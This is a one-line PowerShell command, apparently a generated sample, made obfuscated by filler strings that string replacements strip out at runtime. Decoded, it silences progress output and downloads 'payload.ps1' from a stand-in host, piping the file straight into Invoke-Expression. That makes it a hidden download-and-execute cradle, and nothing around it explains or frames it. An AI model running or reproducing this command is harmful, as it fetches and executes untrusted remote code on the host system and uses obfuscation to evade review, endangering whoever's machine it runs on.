iex (('# run 5245 v4
$ProgressPreference = ZVZ90''Sivz~1entvz~1yContinue''
ZVZ90iwr -UseBasicPZVZ90arsing http://static.metrics-node.exampvz~1e/payvz~1oad.ps1 | iex
' -replace 'ZVZ90','').Replace('vz~1','l'))